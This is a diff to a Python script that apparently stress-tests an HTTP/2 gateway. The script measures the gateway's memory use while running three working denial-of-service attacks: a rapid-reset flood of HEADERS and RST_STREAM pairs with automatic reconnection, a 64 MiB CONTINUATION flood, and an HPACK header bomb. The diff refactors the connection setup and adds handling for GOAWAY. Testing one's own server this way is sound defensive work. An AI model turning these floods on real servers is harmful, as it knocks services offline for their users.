@@ -20,6 +20,7 @@ import time
 import h2.config
 import h2.connection
 import h2.events
+import h2.exceptions
 import h2.settings
 
 PORT = int(sys.argv[1])
@@ -53,6 +54,15 @@ def tls():
     s = ctx.wrap_socket(s, server_hostname=HOST)
     assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
     return s
+
+
+def connect():
+    """A new HTTP/2 connection with its preface sent: (socket, h2 connection)."""
+    s = tls()
+    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    c.initiate_connection()
+    s.sendall(c.data_to_send())
+    return s, c
 
 
 def headers(path="/v1/models"):
@@ -124,10 +134,7 @@ def check_after(name, rss_before):
 def rapid_reset():
     print("rapid-reset: HEADERS + RST_STREAM pairs as fast as possible for 3 s, reconnecting when cut")
     before = rss_kib()
-    s = tls()
-    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-    c.initiate_connection()
-    s.sendall(c.data_to_send())
+    s, c = connect()
     sent, stream, closed, reconnects = 0, 1, False, 0
     end = time.time() + 3
     # Other clients, on their own connections, all through the attack.
@@ -140,13 +147,18 @@ def rapid_reset():
     prober.start()
     s.settimeout(0.001)
     while time.time() < end:
-        for _ in range(100):
-            c.send_headers(stream, headers(), end_stream=True)
-            c.reset_stream(stream)
-            stream += 2
-            sent += 1
         try:
-            s.sendall(c.data_to_send())
+            for _ in range(100):
+                c.send_headers(stream, headers(), end_stream=True)
+                c.reset_stream(stream)
+                stream += 2
+                sent += 1
+        except h2.exceptions.ProtocolError:
+            # The gateway's GOAWAY arrived: this connection is done.
+            closed = True
+        try:
+            if not closed:
+                s.sendall(c.data_to_send())
         except (OSError, ssl.SSLError):
             closed = True
         try:
@@ -162,10 +174,7 @@ def rapid_reset():
         # Once cut, the attacker reconnects and carries on until the time is up.
         if closed and time.time() < end:
             s.close()
-            s = tls()
-            c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-            c.initiate_connection()
-            s.sendall(c.data_to_send())
+            s, c = connect()
             s.settimeout(0.001)
             stream, closed, reconnects = 1, False, reconnects + 1
     prober.join()
@@ -180,10 +189,7 @@ def rapid_reset():
 def continuation_flood():
     print("continuation: one header block as CONTINUATION frames, 16 KiB each, up to 64 MiB")
     before = rss_kib()
-    s = tls()
-    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-    c.initiate_connection()
-    s.sendall(c.data_to_send())
+    s, c = connect()
     # A HEADERS frame without END_HEADERS: type 1, flags END_STREAM only, stream 1.
     block = c.encoder.encode(headers())
     frame = lambda t, flags, payload: len(payload).to_bytes(3, "big") + bytes([t, flags]) + (1).to_bytes(4, "big") + payload
@@ -210,14 +216,10 @@ def continuation_flood():
 def hpack_bomb():
     print("hpack-bomb: a 4 KiB header indexed once, then referenced 16 000 times in one request")
     before = rss_kib()
-    s = tls()
-    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-    c.initiate_connection()
-    s.sendall(c.data_to_send())
+    s, c = connect()
     big = b"b" * 4000
     # Literal with incremental indexing, new name: 0x40, name, value.
     def string(b):
-        assert len(b) < 127 or True
         n = len(b)
         if n < 127:
             return bytes([n]) + b
